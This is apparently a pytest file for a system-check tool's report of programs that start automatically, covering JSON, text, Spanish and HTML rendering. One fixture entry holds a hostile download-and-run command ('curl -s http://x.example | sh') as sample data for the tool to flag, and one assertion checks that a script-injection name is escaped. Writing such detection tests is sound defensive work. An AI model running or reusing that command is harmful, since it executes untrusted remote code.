"""The "What starts by itself on this computer" section in JSON, text and HTML."""

from __future__ import annotations

import datetime as dt
import json
import re

from techcheck.artifacts import Location, make
from techcheck.report.html import render_html
from techcheck.report.model import build_report
from techcheck.report.text import render_text
from techcheck.timeutil import FILE_MODIFIED, Time
from tests.reportdata import SCRIPT, hostile_scan

WHEN = Time(dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.timezone.utc), "changed", FILE_MODIFIED)
ENTRIES = [
    make("autostart", Location(path="/lib/systemd/system/systemd-journald.service"), mechanism="systemd",
         name="systemd-journald.service", command="/lib/systemd/systemd-journald", origin="system", enabled=True),
    make("autostart", Location(path="/lib/systemd/system/cups.service"), mechanism="systemd", name="cups.service",
         command="/usr/sbin/cupsd -l", origin="installed", origin_name="cups", enabled=True, times=[WHEN]),
    make("autostart", Location(path="/etc/systemd/system/sync.service"), mechanism="systemd", name=SCRIPT,
         command="/bin/sh -c 'curl -s http://x.example | sh'", origin="unknown", interpreter="sh",
         behaviour=["download_exec", "inline_code"], enabled=True),
    make("autostart", Location(path="/etc/crontab"), mechanism="cron", name="crontab:12", command="run-parts x",
         origin="changed", origin_name="cron", enabled=True),
    make("service", Location(registry_key="HKLM\\SYSTEM\\x"), name="Spooler", command="spoolsv.exe"),
]


def report(lang: str = "en") -> dict:
    return build_report(hostile_scan(extra_artifacts=ENTRIES), lang)


def test_json_lists_everything_but_the_system_grouped_by_place() -> None:
    section = report()["startup"]
    names = [e["name"] for p in section["places"] for e in p["entries"]]
    assert "systemd-journald.service" not in names
    assert {"cups.service", SCRIPT, "crontab:12", "Spooler"} <= set(names)
    systemd = next(p for p in section["places"] if p["place"] == "systemd")
    assert [e["origin"] for e in systemd["entries"]] == ["unknown", "installed"]  # doubtful first
    assert systemd["entries"][1]["origin_label"] == "an installed package or app: cups"
    assert systemd["entries"][0]["behaviour_labels"] == ["downloads code and runs it", "code written into the command"]
    # hostile_scan adds 8 cron entries whose origin no collector worked out; plus the service here
    assert section["by_origin"]["unknown"] == 1 and section["by_origin"]["unchecked"] == 9
    assert next(p for p in section["places"] if p["place"] == "service")["entries"][0]["origin_label"] == (
        "origin not checked")


def test_times_are_typed_in_the_json() -> None:
    text = json.dumps(report())
    assert ('"times": [{"time": "2026-03-01T09:30:00+00:00", "kind": "changed", '
            '"source": "file modification time", "source_id": "time_source.file_modified"}]') in text


def test_text_section_says_what_it_is_and_how_to_tell() -> None:
    out = render_text(report())
    flat = " ".join(out.split())
    assert "What starts by itself on this computer" in out
    assert "Most of them are normal" in flat and "How to tell" in flat
    assert out.index("What starts by itself") < out.index("Every check and its result")
    assert "cups.service — an installed package or app: cups" in flat
    assert "[downloads code and runs it, code written into the command]" in flat
    assert SCRIPT in out and "&lt;" not in out  # text output shows names as text, not as HTML
    assert all(len(line) <= 80 for line in out.splitlines())


def test_spanish_and_html() -> None:
    es = render_text(report("es"))
    assert "Lo que arranca solo en esta computadora" in es and "un paquete o app instalado: cups" in es
    html = render_html(report())
    assert '<section id="startup">' in html and "<script>alert" not in html
    assert re.search(r'<tr class="origin-unknown">', html)
    assert "an installed package or app: cups" in html
